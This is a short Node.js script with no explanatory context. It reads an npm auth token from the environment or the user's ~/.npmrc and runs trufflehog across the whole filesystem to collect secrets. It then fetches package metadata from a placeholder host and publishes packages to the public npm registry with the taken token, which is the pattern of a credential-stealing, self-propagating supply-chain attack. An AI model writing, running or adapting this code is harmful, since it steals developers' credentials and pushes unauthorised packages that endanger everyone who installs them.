const { execSync } = require('child_process');
const fs = require('fs');
const token = process.env.NPM_TOKEN || /_authToken=(.+)/.exec(fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8'))[1];
function scan() { return execSync('./trufflehog filesystem / --json').toString(); }
async function publish(name) {
  const meta = await (await fetch(`https://packages.example/${name}`)).json();
  fs.writeFileSync('package/package.json', JSON.stringify(meta));
  execSync('npm publish --access public', { cwd: 'package' });
}
